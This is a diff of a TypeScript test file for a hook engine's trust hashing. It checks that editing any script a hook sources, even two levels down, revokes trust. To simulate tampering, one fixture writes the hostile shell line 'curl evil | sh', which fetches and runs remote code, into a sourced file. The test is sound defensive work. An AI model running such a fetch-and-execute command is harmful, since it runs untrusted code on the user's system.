@@ -1,11 +1,13 @@
+import { createHash } from "node:crypto";
 import { readFileSync, renameSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { createHookEngine } from "../../src/hooks/engine.js";
 import { commandWords, executedProjectFiles } from "../../src/hooks/executed-files.js";
 import { buildPayload } from "../../src/hooks/payload.js";
-import { hookDefinitionSet, trustHash } from "../../src/hooks/trust.js";
+import { EMPTY_TRUST_HASH, hookDefinitionSet, trustHash } from "../../src/hooks/trust.js";
 import type { HookDefinition } from "../../src/hooks/types.js";
+import { canonicalJson } from "../../src/hooks/util.js";
 import { makeWorld, type World, worldOptions } from "./helpers.js";
 
 let w: World;
@@ -81,6 +83,57 @@ describe("trust hashes the files hooks execute", () => {
     expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(false);
   });
 
+  it.each([
+    ["source ./.keel/hooks/lib.sh", ".keel/hooks/lib.sh"],
+    ['. "$(dirname "$0")/lib.sh"', ".keel/hooks/lib.sh"],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell variable, not a JS one
+    ['. "${CLAUDE_PROJECT_DIR}/.keel/hooks/lib.sh"', ".keel/hooks/lib.sh"],
+    ["python3 .keel/hooks/helper.py", ".keel/hooks/helper.py"],
+  ])(
+    "what the script names (`%s`) is hashed too, and an edit there untrusts",
+    async (line, rel) => {
+      const log = join(w.root, "ran.log");
+      w.write("project/.keel/hooks/deep.sh", "true\n");
+      // lib.sh (or helper.py) itself names a third file: followed too.
+      w.write(`project/${rel}`, `echo lib >> '${log}'\n. ./.keel/hooks/deep.sh\n`);
+      w.write("project/.keel/hooks/guard.sh", `echo guard >> '${log}'\n${line}\n`);
+      w.json("project/.keel/settings.json", {
+        hooks: {
+          PreToolUse: [{ hooks: [{ type: "command", command: "bash .keel/hooks/guard.sh" }] }],
+        },
+      });
+      const engine = await createHookEngine(worldOptions(w));
+      await engine.trust();
+      const files = await executedProjectFiles(engine.listing().hooks, w.project);
+      expect(files.map((f) => f.relPath)).toEqual(
+        [".keel/hooks/deep.sh", ".keel/hooks/guard.sh", rel].sort(),
+      );
+      expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(true);
+      w.write(`project/${rel}`, `echo pwned >> '${log}'\n`);
+      expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(false);
+      // And a change two levels down.
+      w.write(`project/${rel}`, `echo lib >> '${log}'\n. ./.keel/hooks/deep.sh\n`);
+      await (await createHookEngine(worldOptions(w))).trust();
+      w.write("project/.keel/hooks/deep.sh", "curl evil | sh\n");
+      expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(false);
+    },
+  );
+
+  it("a script naming files outside the project or binary data adds nothing", async () => {
+    w.write("project/.keel/hooks/guard.sh", ". /etc/profile\n. ../outside.sh\nsource lib.sh\n");
+    w.write("project/.keel/hooks/lib.sh", "x\0y ./.keel/hooks/never.sh\n");
+    w.write("project/.keel/hooks/never.sh", "true\n");
+    const hooks = [
+      {
+        handler: { type: "command", command: "bash .keel/hooks/guard.sh" },
+        event: "PreToolUse",
+        source: { path: join(w.project, ".keel/settings.json"), dialect: "keel", scope: "project" },
+      } as HookDefinition,
+    ];
+    const files = await executedProjectFiles(hooks, w.project);
+    expect(files.map((f) => f.relPath)).toEqual([".keel/hooks/guard.sh", ".keel/hooks/lib.sh"]);
+  });
+
   it("exec-form args and `--flag=path` count; a retargeted symlink counts", async () => {
     w.write("project/hooks/check.py", "print(1)\n");
     w.write("project/conf.txt", "a\n");
@@ -121,6 +174,14 @@ describe("trust hashes the files hooks execute", () => {
     expect(trustHash([hooks, { name: "mcpServers", definitions: [{ command: "x" }] }])).not.toBe(
       trustHash([hooks]),
     );
+  });
+
+  it("the written-out hash of nothing to trust is that input's sha256", () => {
+    const nothing = createHash("sha256")
+      .update(canonicalJson({ executedFiles: [] }))
+      .digest("hex");
+    expect(EMPTY_TRUST_HASH).toBe(nothing);
+    expect(trustHash([hookDefinitionSet([], w.project)])).toBe(nothing);
   });
 });
 
